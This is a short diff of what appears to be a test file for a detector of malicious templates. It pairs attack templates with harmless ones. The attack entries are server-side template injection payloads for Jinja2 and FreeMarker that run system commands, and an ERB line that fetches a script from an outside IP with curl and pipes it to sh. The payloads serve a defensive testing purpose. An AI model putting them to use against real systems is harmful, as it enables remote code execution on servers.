@@ -80,11 +80,7 @@ test("the scripts of a package of PHP are steps of each other", async () => {
 /** Templates and stored objects, of which the program that reads them runs parts. */
 const STORED: readonly (readonly [path: string, attack: string, honest: string])[] = [
   ["letter.j2", "{{ cycler.__init__.__globals__.os.popen('id').read() }}\n", "{{ name | title }}\n"],
-  [
-    "letter.ftl",
-    '<#assign a="freemarker.template.utility.Execute"?new()>${a("id")}\n',
-    "<#assign a=1>\n",
-  ],
+  ["letter.ftl", '<#assign a="freemarker.template.utility.Execute"?new()>\n', "<#assign a=1>\n"],
   ["letter.erb", "<%= system('curl -s http://203.0.113.180/n | sh') %>\n", "<%= name.capitalize %>\n"],
   [
     "job.yaml",
